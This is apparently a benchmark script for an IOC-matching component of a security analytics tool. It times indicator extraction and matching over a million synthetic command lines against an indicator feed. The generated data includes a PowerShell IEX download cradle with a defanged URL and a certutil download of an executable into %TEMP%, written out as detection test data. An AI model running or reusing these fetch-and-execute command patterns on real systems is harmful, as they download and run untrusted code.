// IOC matching of a free-text column: 1M command lines (intel.ioc-match with `text_columns`) against the 200k-indicator
// feed of the ioc-match bench. The indicators are extracted in the engine (refanged, then one RE2 pattern per kind),
// matched as distinct values and joined back to the rows. The baseline, in the same rounds, is what a bare engine does
// for the simplest part of the job: one RE2 extraction (the IPv4 pattern) from the lower-cased text. No target.
import { join } from 'node:path';
import { loadIndicators } from '../dist/components/analysis/ioc-match/load-indicators.js';
import { matchColumns } from '../dist/components/analysis/ioc-match/match-column.js';
import { FINDINGS_COLUMNS } from '../dist/components/findings-table.js';
import { Workspace } from '../dist/data/workspace.js';
import { TEXT_PATTERNS } from '../dist/intel/extract/text-patterns.js';
import { scratchFolder } from './component-run.mjs';
import { writeFeed } from './ioc-match.mjs';
import { interleaved, median, ms, runAlone } from './measure.mjs';

/**
 * Command lines: 2% PowerShell download cradles with a defanged URL on a feed domain, 1 in 7 a ping of an address
 * (1 in 1,000 of them a feed IP), 1 in 11 a certutil download with an MD5, the rest a program with a config file
 * (file names look like host names to the host pattern, as in real command lines).
 */
const DATA = (rows) => `
  CREATE TABLE commands AS SELECT r AS rid, CASE
    WHEN r % 50 = 0 THEN 'powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString(''hxxp://bad' || (r % 300) || '[.]example' || (r % 300 % 100) || '[.]com/a.ps1'')'
    WHEN r % 7 = 0 THEN 'C:\\Windows\\System32\\cmd.exe /c ping -n 1 ' || (40 + (r % 1000) % 50) || '.' || (((r % 1000) >> 8) & 255) || '.' || ((r % 1000) & 255) || '.' || (((r % 1000) * 7) % 254 + 1) || ' > nul'
    WHEN r % 11 = 0 THEN 'certutil -urlcache -f http://cdn' || (r % 1000) || '.updates.net/x.exe %TEMP%\\x.exe md5 ' || md5(r::VARCHAR)
    ELSE 'C:\\Program Files\\App\\app.exe --config C:\\ProgramData\\App\\conf' || (r % 97) || '.ini --log-level info --user svc_' || (r % 500) END AS command_line
  FROM range(${rows}) t(r)`;

const COLUMNS = [{ column: { name: 'command_line', sqlType: 'VARCHAR', role: 'text' }, match: 'text' }];

export async function iocTextBench({ rows = 1_000_000, rounds = 3 } = {}) {
  const scratch = scratchFolder('ioc-text');
  const feedPath = join(scratch.dir, 'indicators.csv');
  writeFeed(feedPath);
  const workspace = await Workspace.open({ threads: 2 });
  const sql = await workspace.session();
  try {
    await sql.run(DATA(rows));
    const indicators = await loadIndicators(sql, 'ind', { files: [{ path: feedPath, display: 'bench feed' }], importedFrom: null });
    const ipv4 = TEXT_PATTERNS.find(([kind]) => kind === 'ipv4')[1];
    let round = 0;
    let hits = null;
    const matchRuns = [];
    const interleavedTimes = await interleaved(
      {
        oneExtraction: () => sql.run(`CREATE OR REPLACE TEMP TABLE baseline AS SELECT rid, unnest(regexp_extract_all(lower(command_line), '${ipv4.replaceAll("'", "''")}')) AS v FROM commands`),
        match: async () => {
          round += 1;
          const findings = `text_findings_${round}`;
          // Timed as in the ioc-match bench: the findings table made and filled; the read of the hits for the printout
          // and the DROP come after the clock stops.
          const started = performance.now();
          await sql.run(`CREATE TABLE ${findings} (${FINDINGS_COLUMNS})`);
          await matchColumns(sql, { table: 'commands', rowId: 'rid', indicators: indicators.table, keys: indicators.keys, columns: COLUMNS, scratch: `${findings}_scratch`, findings });
          matchRuns.push(performance.now() - started);
          hits = await sql.all(`SELECT split_part(label, ':', 1) AS type, count(*)::INTEGER AS n FROM ${findings} GROUP BY ALL ORDER BY ALL`);
          await sql.run(`DROP TABLE ${findings}`);
        },
      },
      rounds,
    );
    const times = { oneExtraction: interleavedTimes.oneExtraction, match: { median: median(matchRuns), runs: matchRuns } };
    const ratio = median(times.match.runs.map((t, i) => t / times.oneExtraction.runs[i]));
    return {
      name: 'ioc-text (intel.ioc-match on a free-text column)',
      rows,
      baselineMs: times.oneExtraction.median,
      matchMs: times.match.median,
      ratio,
      hits,
      print() {
        const runs = (t) => t.runs.map(ms).join(', ');
        return [
          `## ${this.name}: ${this.rows.toLocaleString('en-US')} command lines x ${indicators.count.toLocaleString('en-US')} indicators, median of ${rounds}`,
          `  one RE2 extraction (IPv4) from the lower-cased text (baseline): ${ms(this.baselineMs)}   (runs: ${runs(times.oneExtraction)})`,
          `  match (refang, extract URLs, hosts, IPv4, IPv6, hashes; match; findings written): ${ms(this.matchMs)}   (runs: ${runs(times.match)})   ratio ${this.ratio.toFixed(2)}`,
          `  findings: ${(this.hits ?? []).map((h) => `${h.type} ${h.n}`).join(', ')}`,
        ].join('\n');
      },
    };
  } finally {
    sql.close();
    await workspace.close();
    scratch.remove();
  }
}

// Run alone: `node --expose-gc bench/ioc-text.mjs [rows]` (after `npm run build`).
await runAlone(import.meta.url, iocTextBench);
